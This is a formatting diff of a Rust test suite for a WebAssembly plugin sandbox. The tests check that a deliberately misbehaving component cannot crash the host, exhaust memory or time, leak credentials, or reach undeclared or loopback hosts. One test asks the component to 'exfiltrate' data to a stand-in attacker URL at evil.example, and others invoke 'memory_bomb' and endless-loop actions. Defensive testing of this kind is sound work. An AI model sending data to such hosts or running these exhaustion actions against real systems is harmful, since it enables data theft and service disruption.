@@ -16,13 +16,20 @@ fn token() -> Credentials {
 /// After any misbehaviour the same runtime still runs a well-behaved call.
 async fn still_serving(rt: &Runtime) {
     let piece = load(rt, "misbehave").await;
-    piece.validate(&token()).await.expect("the host keeps serving");
+    piece
+        .validate(&token())
+        .await
+        .expect("the host keeps serving");
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn refuses_a_file_that_is_not_wasm() {
     let rt = runtime(&[]);
-    let err = rt.load(b"#!/bin/sh\necho hi\n").await.err().expect("refused");
+    let err = rt
+        .load(b"#!/bin/sh\necho hi\n")
+        .await
+        .err()
+        .expect("refused");
     assert!(matches!(err, LoadError::NotWasm), "{err}");
     assert!(err.to_string().contains("not a WebAssembly file"));
     still_serving(&rt).await;
@@ -41,7 +48,11 @@ async fn refuses_a_core_module() {
 async fn refuses_a_truncated_component() {
     let rt = runtime(&[]);
     let bytes = std::fs::read(piece_path("openai")).expect("read");
-    let err = rt.load(&bytes[..bytes.len() / 2]).await.err().expect("refused");
+    let err = rt
+        .load(&bytes[..bytes.len() / 2])
+        .await
+        .err()
+        .expect("refused");
     assert!(matches!(err, LoadError::Invalid(_)), "{err}");
     still_serving(&rt).await;
 }
@@ -49,7 +60,11 @@ async fn refuses_a_truncated_component() {
 #[tokio::test(flavor = "multi_thread")]
 async fn refuses_a_component_for_another_world() {
     let rt = runtime(&[]);
-    let err = rt.load_file(&piece_path("not-a-piece")).await.err().expect("refused");
+    let err = rt
+        .load_file(&piece_path("not-a-piece"))
+        .await
+        .err()
+        .expect("refused");
     assert!(matches!(err, LoadError::NotAPiece(_)), "{err}");
     assert!(err.to_string().contains("thinkfleet:piece/piece"), "{err}");
     still_serving(&rt).await;
@@ -59,7 +74,11 @@ async fn refuses_a_component_for_another_world() {
 async fn a_trapping_piece_gets_a_clear_error() {
     let rt = runtime(&[]);
     let piece = load(&rt, "misbehave").await;
-    let err = piece.run_action("trap", &json!({}), &token()).await.err().expect("trap");
+    let err = piece
+        .run_action("trap", &json!({}), &token())
+        .await
+        .err()
+        .expect("trap");
     assert!(matches!(err, CallError::Trap(_)), "{err}");
     assert!(err.to_string().starts_with("the piece crashed"), "{err}");
     still_serving(&rt).await;
@@ -67,9 +86,15 @@ async fn a_trapping_piece_gets_a_clear_error() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn an_endless_loop_is_stopped_at_the_deadline() {
-    let rt = runtime_with(&[], |limits, _| limits.call_timeout = Duration::from_millis(300));
+    let rt = runtime_with(&[], |limits, _| {
+        limits.call_timeout = Duration::from_millis(300)
+    });
     let piece = load(&rt, "misbehave").await;
-    let err = piece.run_action("loop", &json!({}), &token()).await.err().expect("stopped");
+    let err = piece
+        .run_action("loop", &json!({}), &token())
+        .await
+        .err()
+        .expect("stopped");
     assert!(matches!(err, CallError::Timeout(300)), "{err}");
     still_serving(&rt).await;
 }
@@ -78,7 +103,11 @@ async fn an_endless_loop_is_stopped_at_the_deadline() {
 async fn unbounded_memory_growth_hits_the_limit() {
     let rt = runtime_with(&[], |limits, _| limits.memory_bytes = 32 << 20);
     let piece = load(&rt, "misbehave").await;
-    let err = piece.run_action("memory_bomb", &json!({}), &token()).await.err().expect("stopped");
+    let err = piece
+        .run_action("memory_bomb", &json!({}), &token())
+        .await
+        .err()
+        .expect("stopped");
     assert!(matches!(err, CallError::MemoryLimit(32)), "{err}");
     still_serving(&rt).await;
 }
@@ -87,9 +116,15 @@ async fn unbounded_memory_growth_hits_the_limit() {
 async fn huge_output_is_refused() {
     let rt = runtime(&[]);
     let piece = load(&rt, "misbehave").await;
-    let err = piece.run_action("huge_output", &json!({}), &token()).await.err().expect("refused");
+    let err = piece
+        .run_action("huge_output", &json!({}), &token())
+        .await
+        .err()
+        .expect("refused");
     match err {
-        CallError::OutputTooLarge { actual, limit } => assert!(actual > limit, "{actual} <= {limit}"),
+        CallError::OutputTooLarge { actual, limit } => {
+            assert!(actual > limit, "{actual} <= {limit}")
+        }
         other => panic!("expected OutputTooLarge, got {other}"),
     }
     still_serving(&rt).await;
@@ -99,7 +134,10 @@ async fn huge_output_is_refused() {
 async fn log_spam_is_capped_and_the_call_completes() {
     let rt = runtime(&[]);
     let piece = load(&rt, "misbehave").await;
-    let out = piece.run_action("log_spam", &json!({}), &token()).await.expect("completes");
+    let out = piece
+        .run_action("log_spam", &json!({}), &token())
+        .await
+        .expect("completes");
     assert_eq!(out, json!({}));
 }
 
@@ -110,15 +148,24 @@ async fn a_host_the_piece_did_not_declare_is_refused_even_when_overridden() {
     let rt = runtime(&[("evil.example", &evil)]);
     let piece = load(&rt, "misbehave").await;
     let err = piece
-        .run_action("exfiltrate", &json!({"url": "https://evil.example/steal"}), &token())
+        .run_action(
+            "exfiltrate",
+            &json!({"url": "https://evil.example/steal"}),
+            &token(),
+        )
         .await
         .err()
         .expect("refused");
     match &err {
-        CallError::Piece(PieceError::Upstream(m)) => assert!(m.contains("not a declared host"), "{m}"),
+        CallError::Piece(PieceError::Upstream(m)) => {
+            assert!(m.contains("not a declared host"), "{m}")
+        }
         other => panic!("expected a refused request, got {other}"),
     }
-    assert!(evil.requests().is_empty(), "the undeclared host was contacted");
+    assert!(
+        evil.requests().is_empty(),
+        "the undeclared host was contacted"
+    );
     still_serving(&rt).await;
 }
 
@@ -128,16 +175,28 @@ async fn loopback_is_refused_unless_the_operator_allows_it() {
     let url = format!("http://localhost:{}/echo", local.addr.port());
     let rt = runtime(&[]);
     let piece = load(&rt, "misbehave").await;
-    let err = piece.run_action("echo", &json!({"url": url}), &token()).await.err().expect("refused");
+    let err = piece
+        .run_action("echo", &json!({"url": url}), &token())
+        .await
+        .err()
+        .expect("refused");
     match &err {
-        CallError::Piece(PieceError::Upstream(m)) => assert!(m.contains("private or loopback"), "{m}"),
+        CallError::Piece(PieceError::Upstream(m)) => {
+            assert!(m.contains("private or loopback"), "{m}")
+        }
         other => panic!("expected a refused request, got {other}"),
     }
-    assert!(local.requests().is_empty(), "a loopback address was reached");
+    assert!(
+        local.requests().is_empty(),
+        "a loopback address was reached"
+    );
 
     let rt = runtime_with(&[], |_, policy| policy.allow_private = true);
     let piece = load(&rt, "misbehave").await;
-    let out = piece.run_action("echo", &json!({"url": url}), &token()).await.expect("allowed");
+    let out = piece
+        .run_action("echo", &json!({"url": url}), &token())
+        .await
+        .expect("allowed");
     assert_eq!(out["status"], 200);
     assert_eq!(local.requests().len(), 1);
 }
@@ -149,8 +208,15 @@ async fn operator_narrowing_removes_a_declared_host() {
         policy.narrow_to = Some(vec!["api.other.test".into()])
     });
     let piece = load(&rt, "misbehave").await;
-    let err = piece.run_action("echo", &json!({}), &token()).await.err().expect("refused");
-    assert!(matches!(err, CallError::Piece(PieceError::Upstream(_))), "{err}");
+    let err = piece
+        .run_action("echo", &json!({}), &token())
+        .await
+        .err()
+        .expect("refused");
+    assert!(
+        matches!(err, CallError::Piece(PieceError::Upstream(_))),
+        "{err}"
+    );
     assert!(api.requests().is_empty());
 }
 
@@ -159,14 +225,20 @@ async fn host_applied_credentials_never_enter_the_guest() {
     let api = Mock::start(|_| (200, json!({"echo": "ok"}))).await;
     let rt = runtime(&[("api.allowed.test", &api)]);
     let piece = load(&rt, "misbehave").await;
-    let out = piece.run_action("echo", &json!({}), &token()).await.expect("echo");
+    let out = piece
+        .run_action("echo", &json!({}), &token())
+        .await
+        .expect("echo");
     // The guest saw the credential redacted, and nothing it returned holds the secret.
     assert_eq!(out["seen"], "redacted");
     assert!(!out.to_string().contains(PLANTED));
     // The service got the real credential, put there by the host over the guest's forgery.
     let requests = api.requests();
     assert_eq!(requests.len(), 1);
-    assert_eq!(requests[0].header("authorization"), format!("Bearer {PLANTED}"));
+    assert_eq!(
+        requests[0].header("authorization"),
+        format!("Bearer {PLANTED}")
+    );
     assert_eq!(requests[0].path, "/echo");
 }
 
@@ -181,8 +253,16 @@ async fn sixty_four_concurrent_calls_all_finish() {
             ("user", "bob"),
         ]
         .into_iter()
-        .map(|(k, v)| (k.to_string(), thinkfleet::piece::CustomValue::Text(v.to_string())))
-        .chain([("password".to_string(), thinkfleet::piece::CustomValue::Secret(SecretString::from("pw")))])
+        .map(|(k, v)| {
+            (
+                k.to_string(),
+                thinkfleet::piece::CustomValue::Text(v.to_string()),
+            )
+        })
+        .chain([(
+            "password".to_string(),
+            thinkfleet::piece::CustomValue::Secret(SecretString::from("pw")),
+        )])
         .collect(),
     );
     let calls = (0..64).map(|_| {
@@ -199,12 +279,22 @@ async fn sixty_four_concurrent_calls_all_finish() {
 async fn compiled_components_are_cached_by_engine_and_digest() {
     let dir = std::env::temp_dir().join(format!("thinkfleet-cache-test-{}", std::process::id()));
     let _ = std::fs::remove_dir_all(&dir);
-    let config = thinkfleet::runtime::RuntimeConfig { cache_dir: Some(dir.clone()), ..Default::default() };
+    let config = thinkfleet::runtime::RuntimeConfig {
+        cache_dir: Some(dir.clone()),
+        ..Default::default()
+    };
     let rt = Runtime::new(config.clone()).expect("runtime");
     let piece = load(&rt, "postgres").await;
-    let entries: Vec<_> = std::fs::read_dir(&dir).expect("cache dir").map(|e| e.expect("entry").file_name()).collect();
+    let entries: Vec<_> = std::fs::read_dir(&dir)
+        .expect("cache dir")
+        .map(|e| e.expect("entry").file_name())
+        .collect();
     assert_eq!(entries.len(), 1, "{entries:?}");
-    assert!(entries[0].to_string_lossy().ends_with(&format!("{}.cwasm", piece.digest())));
+    assert!(
+        entries[0]
+            .to_string_lossy()
+            .ends_with(&format!("{}.cwasm", piece.digest()))
+    );
     // A second runtime (a restart) loads from the cache and gets the same piece.
     let again = load(&Runtime::new(config).expect("runtime"), "postgres").await;
     assert_eq!(again.info(), piece.info());
